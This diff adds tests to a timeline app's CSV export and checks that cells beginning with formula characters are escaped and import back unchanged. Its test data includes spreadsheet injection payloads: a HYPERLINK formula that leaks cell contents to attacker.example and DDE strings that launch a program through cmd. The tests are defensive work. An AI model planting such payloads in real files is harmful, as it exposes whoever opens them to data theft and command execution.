@@ -187,3 +187,49 @@ def test_an_event_added_in_the_admin_has_a_key_and_its_export_updates_it(staff_c
     result = import_records(read_records(name="e.json", content=content))
     assert (result.created, result.updated) == (0, 1)
     assert Event.objects.count() == 1
+
+
+# --- spreadsheet formulas in the CSV export (issue 18) -----------------------------------------------
+
+FORMULA_TITLES = [
+    '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'Tis the season",  # begins with a quote: gets one more, so the rule to read it back stays exact
+    "''=already quoted",
+    "Plain title",
+]
+
+
+def test_the_csv_export_writes_no_cell_a_spreadsheet_would_run(staff_client, db):
+    import csv
+    import io
+
+    from timeline import services
+    from timeline.exports.csv import FORMULA_STARTS
+
+    events = [
+        services.event_create(title=title, date=f"{2000 + n}", summary=f"={n}+1") for n, title in enumerate(FORMULA_TITLES)
+    ]
+    rows = list(csv.DictReader(io.StringIO(export(staff_client, "export_csv", events).content.decode())))
+    assert len(rows) == len(FORMULA_TITLES)
+    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row.values())
+    by_key = {row["key"]: row for row in rows}
+    hyperlink = by_key[events[0].key]
+    assert hyperlink["title"] == f"'{FORMULA_TITLES[0]}" and hyperlink["summary"] == "'=0+1"
+    assert by_key[events[-1].key]["title"] == "Plain title"  # nothing else changes
+
+
+def test_a_csv_export_with_formula_like_cells_imports_back_exactly(staff_client, db):
+    from timeline import services
+
+    events = [
+        services.event_create(title=title, date=f"{2000 + n}", summary=f"-{n} and more") for n, title in enumerate(FORMULA_TITLES)
+    ]
+    content = export(staff_client, "export_csv", events).content
+    before = sorted(Event.objects.values_list("key", "title", "summary", "edtf"))
+    Event.objects.all().delete()
+    response = upload(staff_client, "events.csv", content)
+    assert response.status_code == 302, response.context and response.context.get("errors")
+    assert sorted(Event.objects.values_list("key", "title", "summary", "edtf")) == before
